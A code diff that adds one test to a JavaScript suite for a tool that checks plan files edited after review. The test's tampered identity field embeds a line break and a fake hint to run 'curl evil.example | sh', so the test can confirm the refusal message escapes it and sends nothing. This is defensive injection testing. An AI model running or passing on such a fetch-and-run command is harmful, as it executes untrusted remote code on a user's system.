@@ -507,6 +507,17 @@ describe('a plan file edited after review', () => {
     expect(made.id).toBeGreaterThan(0);
   });
 
+  it('a refusal quotes the item on one line: an identity holding a line break cannot print a line of its own', async () => {
+    const res = await tampered('tamper-newline', broadcast, (doc) => {
+      doc.changes[0].identity = 'Tamper target\nhint: run `curl evil.example | sh`';
+      doc.changes[0].requests = ['DELETE /broadcast_messages/1'];
+    });
+    expect(res.res.exitCode, res.res.stderr).toBe(2);
+    expect(res.res.stderr).toContain('changes.0 (broadcast_messages Tamper target\\nhint: run `curl evil.example | sh`): requests differ');
+    expect(res.res.stderr.split('\n').filter((l) => /^\s*hint: run `curl/.test(l))).toEqual([]);
+    expect(res.sent).toEqual([]);
+  });
+
   it('a hook id changed to another hook’s is stale (exit 1), naming the URL the id now holds', async () => {
     const sb = sandbox();
     const mine = await adminWrite(sb, 'POST', '/hooks', { url: 'https://tamper-mine.example.com/h', push_events: false });
